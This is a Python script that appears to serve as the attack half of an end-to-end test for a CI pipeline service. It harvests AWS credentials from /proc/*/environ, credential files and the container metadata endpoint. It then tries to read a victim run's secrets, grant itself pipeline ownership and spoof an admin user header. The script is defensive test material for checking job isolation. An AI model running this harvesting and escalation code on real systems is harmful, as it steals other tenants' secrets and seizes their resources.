"""The attack a job script runs (tests/e2e/test_job_credentials.py): standard library only, as on any host.

It collects every set of AWS credentials and every endpoint it can find, and with each (and with none, and with
moto's well-known "testing" keys) tries to read the victim run's secrets and to grant itself the owner role on the
victim's pipeline. One line per attempt: `ATTEMPT <credentials> <endpoint> <action>: ALLOWED|REFUSED <why>`.
"""

import datetime
import glob
import hashlib
import hmac
import json
import os
import urllib.error
import urllib.request

GATEWAY = os.environ["GATEWAY"]
VICTIM_RUN, VICTIM_PIPELINE = os.environ["VICTIM_RUN"], os.environ["VICTIM_PIPELINE"]
SECRET_ID, ATTACKER = os.environ["SECRET_ID"], os.environ["ATTACKER"]
KEYS = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN")


def http(method, url, body=b"", headers=None, timeout=5):
    request = urllib.request.Request(url, data=body or None, method=method, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=timeout) as response:
            return response.status, response.read().decode(errors="replace")
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode(errors="replace")
    except Exception as exc:  # any failure to reach is an outcome to print
        return 0, f"{type(exc).__name__}: {exc}"


def credentials_in(variables, origin, found):
    if variables.get("AWS_ACCESS_KEY_ID") and variables.get("AWS_SECRET_ACCESS_KEY"):
        found[origin] = tuple(variables.get(k, "") for k in KEYS)
    for name, value in variables.items():
        if name.startswith("AWS_CONTAINER_CREDENTIALS_"):
            url = value if "FULL" in name else "http://169.254.170.2" + value
            status, text = http("GET", url, timeout=2)
            print(f"TRIED {origin} {name}: {status} {text[:80]!r}")
            if status == 200:
                data = json.loads(text)
                found[origin + ":container"] = (data["AccessKeyId"], data["SecretAccessKey"], data.get("Token", ""))


def parse_ini(text):
    variables = {}
    for line in text.splitlines():
        name, _, value = line.partition("=")
        variables[name.strip().upper()] = value.strip()
    return variables


def collect():
    found = {"none": None, "testing": ("testing", "testing", "")}
    endpoints = set()
    credentials_in(dict(os.environ), "own-environment", found)
    readable = 0
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as handle:
                pairs = [item.partition(b"=") for item in handle.read().split(b"\0") if item]
        except OSError:
            continue
        readable += 1
        variables = {k.decode(errors="replace"): v.decode(errors="replace") for k, _, v in pairs}
        if variables != dict(os.environ):  # another process's: whatever it holds may be a secret
            print(f"ENVIRON {path}: {' '.join(variables.values())[:2000]}")
        credentials_in(variables, path, found)
        endpoints.update(v for k, v in variables.items() if k.startswith("AWS_ENDPOINT_URL"))
    print(f"TRIED /proc/*/environ: {readable} readable")
    files = [os.path.expanduser("~/.aws/credentials"), "/root/.aws/credentials", *glob.glob("/home/*/.aws/*")]
    for depth in range(1, 5):  # the stacks' data folders and the builds' working directories are under /tmp
        folders = "/tmp" + "/*" * (depth - 1)
        files += glob.glob(folders + "/credentials") + glob.glob(folders + "/AWS_*")
    for path in files:
        try:
            with open(path, encoding="utf-8", errors="replace") as handle:
                text = handle.read(100_000)
        except OSError as exc:
            print(f"TRIED {path}: {type(exc).__name__}")
            continue
        print(f"TRIED {path}: read")
        credentials_in(parse_ini(text), path, found)
    status, text = http("GET", f"{GATEWAY}/_hookrun/local")
    print(f"TRIED {GATEWAY}/_hookrun/local: {status}")
    table = "hookrun-local"
    if status == 200:
        info = json.loads(text)
        endpoints.add(info["motoEndpoint"])
        table = info["tableName"]
    return found, sorted(endpoints), table


def sign(method, url, service, target, body, credentials):
    headers = {"Content-Type": "application/x-amz-json-1.0", "X-Amz-Target": target}
    if credentials is None:
        return headers
    key, secret, token = credentials
    now = datetime.datetime.now(datetime.UTC)
    stamp, day = now.strftime("%Y%m%dT%H%M%SZ"), now.strftime("%Y%m%d")
    host = url.split("://", 1)[1].split("/", 1)[0]
    headers.update({"Host": host, "X-Amz-Date": stamp})
    if token:
        headers["X-Amz-Security-Token"] = token
    names = sorted(name.lower() for name in headers)
    canonical_headers = "".join(f"{n}:{headers[next(h for h in headers if h.lower() == n)]}\n" for n in names)
    signed = ";".join(names)
    payload = hashlib.sha256(body).hexdigest()
    request = f"{method}\n/\n\n{canonical_headers}\n{signed}\n{payload}"
    scope = f"{day}/us-east-1/{service}/aws4_request"
    to_sign = f"AWS4-HMAC-SHA256\n{stamp}\n{scope}\n{hashlib.sha256(request.encode()).hexdigest()}"
    signing = ("AWS4" + secret).encode()
    for part in (day, "us-east-1", service, "aws4_request"):
        signing = hmac.new(signing, part.encode(), hashlib.sha256).digest()
    signature = hmac.new(signing, to_sign.encode(), hashlib.sha256).hexdigest()
    authorization = f"AWS4-HMAC-SHA256 Credential={key}/{scope}, SignedHeaders={signed}, Signature={signature}"
    headers["Authorization"] = authorization
    return headers


def attempt(label, endpoint, action, service, target, request, credentials):
    body = json.dumps(request).encode()
    status, text = http("POST", endpoint + "/", body, sign("POST", endpoint, service, target, body, credentials))
    if service == "secretsmanager":
        status = status if status != 200 or "SecretString" in text else 400
    elif action == "GetItem":
        status = status if status != 200 or '"Item"' in text else 404  # no item read is no secret read
    outcome = "ALLOWED" if status == 200 else "REFUSED"
    why = text if status == 200 else text.replace("\n", " ")[:160]
    print(f"ATTEMPT {label} {endpoint} {action}: {outcome} {status} {why}")


def main():
    found, endpoints, table = collect()
    print(f"FOUND credentials: {sorted(found)}; endpoints: {endpoints}")
    secrets_key = {"pk": {"S": f"RUN#{VICTIM_RUN}"}, "sk": {"S": "SECRETS"}}
    grant = {
        "pk": {"S": f"PIPELINE#{VICTIM_PIPELINE}"},
        "sk": {"S": f"GRANT#{ATTACKER}"},
        "role": {"S": "owner"},
        "gsi1pk": {"S": f"USER#{ATTACKER}#GRANTS"},
        "gsi1sk": {"S": VICTIM_PIPELINE},
    }
    for label, credentials in found.items():
        for endpoint in endpoints:
            attempt(label, endpoint, "GetItem", "dynamodb", "DynamoDB_20120810.GetItem",
                    {"TableName": table, "Key": secrets_key}, credentials)  # fmt: skip
            attempt(label, endpoint, "PutItem", "dynamodb", "DynamoDB_20120810.PutItem",
                    {"TableName": table, "Item": grant}, credentials)  # fmt: skip
            attempt(label, endpoint, "GetSecretValue", "secretsmanager", "secretsmanager.GetSecretValue",
                    {"SecretId": SECRET_ID}, credentials)  # fmt: skip
    for user in ("admin", ATTACKER):
        url = f"{GATEWAY}/api/pipelines/{VICTIM_PIPELINE}/members/{ATTACKER}"
        headers = {"X-Hookrun-User": user, "Content-Type": "application/json"}
        status, text = http("PUT", url, json.dumps({"role": "owner"}).encode(), headers)
        outcome = "ALLOWED" if status == 200 else "REFUSED"
        print(f"ATTEMPT header-{user} {GATEWAY} PutMember: {outcome} {status} {text[:160]}")


main()
